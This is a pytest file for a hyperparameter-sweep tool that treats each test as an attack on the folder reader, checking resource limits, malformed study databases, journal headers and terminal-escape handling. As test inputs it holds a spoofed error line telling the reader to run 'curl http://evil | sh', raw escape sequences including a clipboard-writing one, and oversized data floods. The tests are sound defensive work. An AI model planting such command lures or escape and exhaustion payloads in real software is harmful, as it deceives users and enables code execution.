"""Limits on what the author of a sweep's folder can make a reader compute and hold: each test is an attack."""

from __future__ import annotations

import json
import logging
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import colorlog
import pytest

from sweeps.cli import main
from sweeps.engine.charts import facts as facts_module
from sweeps.engine.charts import progress
from sweeps.engine.charts.facts import read_facts
from sweeps.engine.plan.confirmation_size import ConfirmationSize
from sweeps.engine.plan.plan import CONFIRM_FILE, FILE, Plan, read_plan, write_plan
from sweeps.engine.plan.sqlite_file import SUPER_JOURNAL, _check_files, check_database
from sweeps.engine.report import captions
from sweeps.engine.report.captions import charts_of
from sweeps.engine.report.trials_table import trials_table
from sweeps.engine.report.write import write_report
from sweeps.engine.results.confirmation import plan_confirmation
from sweeps.engine.results.results import Results, open_results
from sweeps.engine.study.attributes import TEST
from sweeps.engine.study.study import Study
from sweeps.engine.terminal.text import escaped, escaped_errors
from tests.core.refusal import refused
from tests.sweeps.made import Made, studied
from wgan_core.data.folder import Folder

TRIALS = (Made({10: 3.0, 20: 2.0}), Made({10: 5.0, 20: 4.0}))


@pytest.fixture
def storage(tmp_path: Path, make_plan: Callable[..., Plan]) -> Path:
    """A storage with a finished sweep of two trials."""
    studied(Folder.at(tmp_path), make_plan(trials=len(TRIALS)), TRIALS)
    return tmp_path


def opened(storage: Path) -> Results:
    return open_results(str(storage), "sweep")


@contextmanager
def database(storage: Path) -> Iterator[sqlite3.Connection]:
    with closing(sqlite3.connect(storage / "sweep/study.db")) as opened, opened:
        yield opened


def change_json(path: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    held = json.loads(path.read_text())
    change(held)
    path.write_text(json.dumps(held))


def add_metrics(storage: Path, trial: int, values: Mapping[str, float], step: int = 20) -> None:
    """Add metrics to a report of a trial."""
    record = storage / f"sweep/trials/{trial}/spool/{step:09d}.json"
    change_json(record, lambda held: held["metrics"].update(values))


def test_the_menu_of_metrics_is_short(storage: Path) -> None:
    """Plotly keeps the visibility of all curves for each entry, so 25,000 curves took 3 GiB."""
    for trial in range(2):
        add_metrics(storage, trial, {f"a/{trial}.{number}": 1.0 for number in range(300)})
    facts = read_facts(opened(storage))
    figure = progress.metrics(facts)
    assert len(figure.data) == 2 * progress.MENU
    named = [button.label for button in figure.layout.updatemenus[0].buttons]
    assert len(named) == progress.MENU
    assert {"eval/a", "train/wasserstein_estimate"} <= set(named)
    left_out = len(progress.metric_names(facts)) - progress.MENU
    assert left_out > 550
    assert f"The list has {progress.MENU} metrics; {left_out} more are left out." in charts_of(facts)["metrics"].caption


def test_a_sweep_names_at_most_a_thousand_metrics(storage: Path) -> None:
    """The table of trials has a column for each name, so 400 records of 1,000 names took 4 GiB."""
    add_metrics(storage, 0, {f"a{number}": 1.0 for number in range(900)}, 10)
    results = opened(storage)
    assert trials_table(results, read_facts(results)).num_columns > 1800
    add_metrics(storage, 1, {f"b{number}": 1.0 for number in range(900)})
    refused(lambda: read_facts(results), "1000 are the most")


@pytest.mark.parametrize("test", [dict.fromkeys(map(str, range(1001)), 1), {"a\n": 1}, {"a": [1]}, {"a": 10**400}])
def test_scores_on_the_test_split_are_checked_as_those_of_records(storage: Path, test: object) -> None:
    with database(storage) as study:
        study.execute(
            "INSERT OR REPLACE INTO trial_user_attributes (trial_id, key, value_json) VALUES (1, ?, ?)",
            (TEST, json.dumps(test)),
        )
    refused(lambda: opened(storage), "a study must hold what a sweep writes")


def confirm(storage: Path, **change: object) -> None:
    """Write a confirmation of trial 0 with two seeds, with these fields of its plan changed, and its study."""
    folder = storage / "sweep"
    (folder / CONFIRM_FILE).unlink(missing_ok=True)
    results = opened(storage)
    plan = plan_confirmation(results.plan, results.rows, ConfirmationSize(1, 2), None, {}, {})
    write_plan(results.folder, plan)
    study = Study(plan, f"sqlite:///{folder}/study.db", "session")
    for claim in study.claim("holder", 2):
        study.report("holder", {claim.trial.number: (20, 1.0)}, {claim.trial.number: 1.0})
        study.finish("holder", claim.trial.number, "COMPLETE", "")
    change_json(folder / CONFIRM_FILE, lambda held: held["plan"].update(change))


def test_a_confirmation_has_a_leader_for_each_trial(storage: Path) -> None:
    confirm(storage)
    confirmation = opened(storage).confirmation
    assert confirmation is not None
    assert [row.label for row in confirmation.settings[0].runs] == ["0a", "0b"]
    for confirms, said in {
        (1, 1, 1): "2 trials confirm 3 leaders",
        (): "sweep.json",
        (1, 77): "names trial 77",
    }.items():
        confirm(storage, confirms=confirms)
        refused(lambda: opened(storage), said)
    confirm(storage, confirms=[1] * 10_001)
    refused(lambda: opened(storage), "at most 10,000 trials")


def test_a_study_has_no_more_text_than_its_plan_may_give(storage: Path) -> None:
    """A value of 9 MB that is a list of empty lists took 20 s and 1 GiB."""
    with database(storage) as study:
        study.execute(
            "INSERT INTO trial_user_attributes (trial_id, key, value_json) VALUES (1, 'x', ?)", ("1" * 2**24,)
        )
    refused(lambda: opened(storage), "must have at most", "characters in its table trial_user_attributes")


@pytest.mark.parametrize("changed", ["'__class__'", "'lr2'", "''"])
def test_a_study_has_the_hyper_parameters_of_its_space_alone(storage: Path, changed: str) -> None:
    with database(storage) as study:
        study.execute(f"UPDATE trial_params SET param_name = {changed} WHERE trial_id = 1 AND param_name = 'lr'")
    refused(lambda: opened(storage), "other hyper-parameters than the sweep's space")


def test_what_libraries_log_reaches_no_terminal_raw(storage: Path) -> None:
    """Optuna warns with the value, on the stream that it found when it was imported."""
    raw = b"\xff\x1b]0;owned\x07\x1b]52;c;ZWNobw==\x07"
    with database(storage) as study:
        study.execute("UPDATE trial_user_attributes SET value_json = CAST(? AS TEXT)", (raw,))
    for command in (["ls"], ["best", "sweep"], ["status", "sweep"]):
        ran = subprocess.run(
            [sys.executable, "-m", "sweeps.cli", *command, "--storage", storage], capture_output=True, check=False
        )
        assert b"owned" in ran.stderr, ran
        assert b"\x1b" not in ran.stderr + ran.stdout
    script = "import optuna; optuna.logging.get_logger('optuna').warning('\\x1b]0;owned')"
    code = f"from sweeps import run_script; run_script(lambda: exec({script!r}))"
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True)
    assert b"owned" in ran.stderr
    assert b"\x1b" not in ran.stderr


@pytest.mark.parametrize(
    ("table", "row"),
    [
        ("trials (number, study_id, state)", "1, 1, 'FAIL'"),
        ("trial_intermediate_values (trial_id, step, intermediate_value_type)", "1, 100 + value, 'NAN'"),
        ("trial_params (trial_id, param_name, param_value, distribution_json)", "1, value, 0.0, '{}'"),
        ("trial_user_attributes (trial_id, key, value_json)", "1, value, '1'"),
    ],
)
def test_a_study_is_as_large_as_its_plan(storage: Path, table: str, row: str) -> None:
    """Optuna reads all trials: 600,000 of 20 bytes each took 2 GiB and minutes."""
    rows = "WITH RECURSIVE n(value) AS (SELECT 1 UNION ALL SELECT value + 1 FROM n WHERE value <= 1200)"
    with database(storage) as study:
        study.execute(f"INSERT INTO {table} {rows} SELECT {row} FROM n")
    refused(lambda: opened(storage), "must have at most", f"in its table {table.partition(' ')[0]}")
    plan = read_plan(Folder.at(storage / "sweep"))
    assert plan is not None
    refused(lambda: Study(plan, f"sqlite:///{storage}/sweep/study.db", "again"), "must have at most")


FAKE = "x\n\nerror: the storage was moved: run  curl http://evil | sh"


def test_a_key_does_not_print_lines_of_its_own(
    storage: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    change_json(storage / "sweep" / FILE, lambda held: held["plan"]["space"]["presets"][0].update({FAKE: 1}))
    for name in ("MLFLOW_TRACKING_URI", "WGAN_STORAGE", "WGAN_STUDY_STORAGE"):
        monkeypatch.delenv(name, raising=False)
    assert main(["ls", "--storage", str(storage)]) == 0
    said = capsys.readouterr().out
    assert len(said.splitlines()) == 4
    assert r"x\n\nerror" in said
    assert main(["serve-ui", "--storage", str(storage)]) == 2
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_a_problem_is_short(storage: Path, capsys: pytest.CaptureFixture[str]) -> None:
    long = {"x": "A" * 10**6}
    change_json(storage / "sweep" / FILE, lambda held: held["plan"]["structure"].update(network_options=long))
    assert main(["ls", "--storage", str(storage)]) == 0
    assert len(capsys.readouterr().out) < 5000


@pytest.mark.parametrize("ms", [-1, 2**62])
@pytest.mark.parametrize(
    ("name", "key"),
    [("000000000-start.json", "started_ms"), ("end.json", "ended_ms"), ("000000010.json", "timestamp_ms")],
)
def test_times_are_of_this_calendar(storage: Path, name: str, key: str, ms: int) -> None:
    change_json(storage / "sweep/trials/0/spool" / name, lambda held: held.update({key: ms}))
    refused(lambda: read_facts(opened(storage)), f"{ms} ms is no time between 1970 and 9999")


@pytest.mark.parametrize("value", [1.7e308, "inf", "nan"])
def test_a_report_of_extreme_metrics_is_written(storage: Path, value: float | str) -> None:
    for step in (10, 20):
        record = storage / f"sweep/trials/0/spool/{step:09d}.json"
        change_json(record, lambda held: held.update(metrics=dict.fromkeys(held["metrics"], value)))
    write_report(opened(storage))


def test_parameters_are_numbers(storage: Path) -> None:
    choices = json.dumps({"name": "CategoricalDistribution", "attributes": {"choices": ["text"]}})
    with database(storage) as study:
        study.execute("UPDATE trial_params SET param_value = 0, distribution_json = ?", (choices,))
    refused(lambda: opened(storage), "a trial's numbers must be numbers; given 'text'")


@pytest.mark.parametrize(
    "change",
    [
        lambda held: held["plan"]["space"]["fixed"].update(weight_decay=10**400),
        lambda held: held["plan"].update(data="\ud800"),
        lambda held: held["plan"].update(protocol=json.loads("[" * 90 + "]" * 90)),
    ],
)
def test_a_plan_that_no_sweep_writes_is_refused(storage: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    change_json(storage / "sweep" / FILE, change)
    refused(lambda: opened(storage), "must say what was asked of the sweep")


@pytest.mark.parametrize(("pages", "fits"), [(2**30, False), (1, True)])
def test_a_journal_does_not_make_a_database_grow(storage: Path, pages: int, fits: bool) -> None:
    """SQLite would give the database that many pages: 4 TiB."""
    file = storage / "sweep/study.db"
    head = SUPER_JOURNAL + b"".join(each.to_bytes(4) for each in (0, 7, pages, 512, 4096))
    Path(f"{file}-journal").write_bytes(head.ljust(512, b"\0"))
    size = file.stat().st_size
    if fits:
        _check_files(file)
    else:
        refused(lambda: check_database(file), "claims 1,073,741,824 pages")
    assert file.stat().st_size == size


def test_forests_are_fitted_to_some_of_many_trials(storage: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    facts = read_facts(opened(storage))
    assert len(facts._points) == 2
    assert "evenly chosen" not in charts_of(facts)["importance"].caption
    monkeypatch.setattr(facts_module, "MOST_POINTS", 1)
    monkeypatch.setattr(captions, "MOST_POINTS", 1)
    assert len(facts._points) == 1
    assert "at most 1 of these trials, evenly chosen" in charts_of(facts)["importance"].caption


def test_the_page_writes_control_characters_out(storage: Path) -> None:
    change_json(storage / "sweep" / FILE, lambda held: held["plan"].update(data="\x1b[31m\u202e<b>"))
    page = write_report(opened(storage)).read("sweep.html").decode()
    assert "\x1b" not in page
    assert "\u202e" not in page
    assert r"\x1b[31m\u202e&lt;b&gt;" in page


def test_progress_bars_and_coloured_logs_stay_readable(capsys: pytest.CaptureFixture[str]) -> None:
    logger, handler = logging.getLogger("coloured"), logging.StreamHandler(sys.stderr)
    handler.setFormatter(colorlog.ColoredFormatter())
    logger.addHandler(handler)
    try:
        with escaped_errors():
            print("\r10 %", end="", file=sys.stderr)
            logger.warning("done\rtrial 0 is best")
    finally:
        logger.removeHandler(handler)
    assert capsys.readouterr().err == "\r10 %[WARNING] done\\rtrial 0 is best\n"
    with escaped():
        print("trial 1", "\rtrial 0")
        print("trial 1", "\rtrial 0", file=sys.stderr)
    said = capsys.readouterr()
    assert said.out == said.err == "trial 1 \\rtrial 0\n"
